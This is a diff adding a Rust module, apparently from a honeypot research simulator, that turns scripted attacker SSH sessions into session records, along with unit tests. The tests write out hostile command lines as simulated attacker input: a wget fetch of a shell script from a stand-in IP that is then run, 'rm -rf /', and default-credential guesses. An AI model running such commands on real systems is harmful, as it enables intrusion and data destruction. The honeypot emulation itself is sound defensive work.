@@ -1,0 +1,256 @@
+//! Session simulation: turns one attacker script into one
+//! [`SessionRecord`] using the same auth policy and shell emulator as the
+//! wire path, with timing from the latency model.
+//!
+//! This is the bulk path: the 33-month driver calls it hundreds of
+//! thousands of times, so it skips byte-level SSH framing. The `wire`
+//! module runs the identical policy over real `sshwire` dialogues, and an
+//! integration test pins both paths to identical records.
+
+use crate::auth::AuthPolicy;
+use crate::record::{
+    CommandRecord, LoginAttempt, Protocol, SessionEndReason, SessionRecord,
+};
+use crate::shell::{RemoteStore, Shell};
+use hutil::DateTime;
+use netsim::latency::LatencyModel;
+use netsim::tcp::IDLE_TIMEOUT_SECS;
+use netsim::Ipv4Addr;
+
+/// Everything the attacker side decides about a session.
+#[derive(Debug, Clone)]
+pub struct SessionInput {
+    /// Target sensor id.
+    pub honeypot_id: u16,
+    /// Target sensor address.
+    pub honeypot_ip: Ipv4Addr,
+    /// Source address.
+    pub client_ip: Ipv4Addr,
+    /// Source port.
+    pub client_port: u16,
+    /// SSH or Telnet.
+    pub protocol: Protocol,
+    /// Handshake completion instant.
+    pub start: DateTime,
+    /// Client identification string (SSH only).
+    pub client_version: Option<String>,
+    /// Credential attempts in order; the engine stops at the first accept.
+    pub logins: Vec<(String, String)>,
+    /// Command lines to execute after a successful login.
+    pub commands: Vec<String>,
+    /// If true the client goes silent after its last action instead of
+    /// closing, so the honeypot's 3-minute idle timer ends the session.
+    pub idle_out: bool,
+}
+
+/// The session engine: honeypot policy + remote-content store + timing.
+pub struct SessionSim<'s> {
+    policy: AuthPolicy,
+    store: &'s dyn RemoteStore,
+    latency: LatencyModel,
+}
+
+impl<'s> SessionSim<'s> {
+    /// Creates an engine.
+    pub fn new(policy: AuthPolicy, store: &'s dyn RemoteStore, latency: LatencyModel) -> Self {
+        Self { policy, store, latency }
+    }
+
+    /// Runs one session to completion.
+    pub fn run(&self, input: SessionInput) -> SessionRecord {
+        let mut now = input.start;
+        let mut logins = Vec::with_capacity(input.logins.len());
+        let mut authenticated = false;
+        for (round, (user, pass)) in input.logins.iter().enumerate() {
+            now = now.plus_secs(
+                self.latency.rtt_ms(input.client_ip, input.honeypot_ip, round as u32) as i64 / 1000
+                    + 1,
+            );
+            let success = self.policy.accept(user, pass);
+            logins.push(LoginAttempt {
+                username: user.clone(),
+                password: pass.clone(),
+                success,
+            });
+            if success {
+                authenticated = true;
+                break;
+            }
+        }
+
+        let mut commands = Vec::new();
+        let mut uris = Vec::new();
+        let mut file_events = Vec::new();
+        if authenticated && !input.commands.is_empty() {
+            let mut shell = Shell::new(self.store);
+            for (i, line) in input.commands.iter().enumerate() {
+                now = now.plus_secs(self.latency.command_secs(
+                    input.client_ip,
+                    input.honeypot_ip,
+                    i as u32 + 1,
+                ));
+                let outcome = shell.exec_line(line);
+                commands.push(CommandRecord { input: line.clone(), known: outcome.known });
+            }
+            let (u, f) = shell.take_observations();
+            uris = u;
+            file_events = f;
+        }
+
+        let (end, end_reason) = if input.idle_out {
+            (now.plus_secs(IDLE_TIMEOUT_SECS), SessionEndReason::Timeout)
+        } else {
+            (now.plus_secs(1), SessionEndReason::ClientClose)
+        };
+
+        SessionRecord {
+            session_id: 0, // assigned by the collector
+            honeypot_id: input.honeypot_id,
+            honeypot_ip: input.honeypot_ip,
+            client_ip: input.client_ip,
+            client_port: input.client_port,
+            protocol: input.protocol,
+            start: input.start,
+            end,
+            end_reason,
+            client_version: input.client_version,
+            logins,
+            commands,
+            uris,
+            file_events,
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::record::{FileOp, Protocol};
+    use crate::shell::NullStore;
+    use hutil::Date;
+
+    fn engine(store: &dyn RemoteStore) -> SessionSim<'_> {
+        SessionSim::new(AuthPolicy::default(), store, LatencyModel::new(5))
+    }
+
+    fn input() -> SessionInput {
+        SessionInput {
+            honeypot_id: 3,
+            honeypot_ip: Ipv4Addr::from_octets(100, 64, 0, 3),
+            client_ip: Ipv4Addr::from_octets(10, 1, 2, 3),
+            client_port: 40123,
+            protocol: Protocol::Ssh,
+            start: Date::new(2022, 5, 10).at(4, 30, 0),
+            client_version: Some("SSH-2.0-Go".into()),
+            logins: vec![],
+            commands: vec![],
+            idle_out: false,
+        }
+    }
+
+    #[test]
+    fn scanning_session_has_no_logins() {
+        let st = NullStore;
+        let rec = engine(&st).run(input());
+        assert!(rec.logins.is_empty());
+        assert!(!rec.login_succeeded());
+        assert!(rec.commands.is_empty());
+        assert!(rec.duration_secs() >= 1);
+    }
+
+    #[test]
+    fn scouting_session_fails_all_attempts() {
+        let st = NullStore;
+        let mut inp = input();
+        inp.logins = vec![
+            ("admin".into(), "admin".into()),
+            ("root".into(), "root".into()),
+        ];
+        let rec = engine(&st).run(inp);
+        assert_eq!(rec.logins.len(), 2);
+        assert!(!rec.login_succeeded());
+    }
+
+    #[test]
+    fn intrusion_stops_at_first_success() {
+        let st = NullStore;
+        let mut inp = input();
+        inp.logins = vec![
+            ("root".into(), "root".into()),
+            ("root".into(), "admin".into()),
+            ("root".into(), "never-tried".into()),
+        ];
+        let rec = engine(&st).run(inp);
+        assert_eq!(rec.logins.len(), 2, "stop after the first accept");
+        assert_eq!(rec.accepted_password(), Some("admin"));
+        assert!(rec.commands.is_empty());
+    }
+
+    #[test]
+    fn command_execution_records_shell_observations() {
+        let fetch = |uri: &str| {
+            (uri == "http://203.0.113.5/x.sh").then(|| b"#!/bin/sh\nX\n".to_vec())
+        };
+        let mut inp = input();
+        inp.logins = vec![("root".into(), "1234".into())];
+        inp.commands = vec![
+            "cd /tmp".into(),
+            "wget http://203.0.113.5/x.sh".into(),
+            "sh x.sh".into(),
+        ];
+        let rec = engine(&fetch).run(inp);
+        assert_eq!(rec.commands.len(), 3);
+        assert!(rec.commands.iter().all(|c| c.known));
+        assert_eq!(rec.uris, vec!["http://203.0.113.5/x.sh"]);
+        assert!(rec.changes_state());
+        assert!(rec.attempts_exec());
+        assert_eq!(rec.exec_hashes().count(), 1);
+        assert!(rec.end > rec.start);
+    }
+
+    #[test]
+    fn commands_are_not_run_without_auth() {
+        let st = NullStore;
+        let mut inp = input();
+        inp.logins = vec![("root".into(), "root".into())];
+        inp.commands = vec!["rm -rf /".into()];
+        let rec = engine(&st).run(inp);
+        assert!(rec.commands.is_empty());
+        assert!(rec.file_events.is_empty());
+    }
+
+    #[test]
+    fn idle_out_sets_timeout_end() {
+        let st = NullStore;
+        let mut inp = input();
+        inp.logins = vec![("root".into(), "x".into())];
+        inp.idle_out = true;
+        let rec = engine(&st).run(inp);
+        assert_eq!(rec.end_reason, SessionEndReason::Timeout);
+        assert!(rec.duration_secs() >= IDLE_TIMEOUT_SECS);
+    }
+
+    #[test]
+    fn deterministic_given_same_input() {
+        let st = NullStore;
+        let mut inp = input();
+        inp.logins = vec![("root".into(), "pw".into())];
+        inp.commands = vec!["uname -a".into()];
+        let a = engine(&st).run(inp.clone());
+        let b = engine(&st).run(inp);
+        assert_eq!(a.end, b.end);
+        assert_eq!(a.commands, b.commands);
+    }
+
+    #[test]
+    fn missing_exec_marker_flows_through() {
+        let st = NullStore;
+        let mut inp = input();
+        inp.logins = vec![("root".into(), "pw".into())];
+        inp.commands = vec!["chmod +x /tmp/scp_dropped; /tmp/scp_dropped".into()];
+        let rec = engine(&st).run(inp);
+        assert!(rec.has_missing_exec());
+        assert!(!rec.changes_state());
+        assert!(matches!(rec.file_events[0].op, FileOp::ExecAttempt { sha256: None }));
+    }
+}
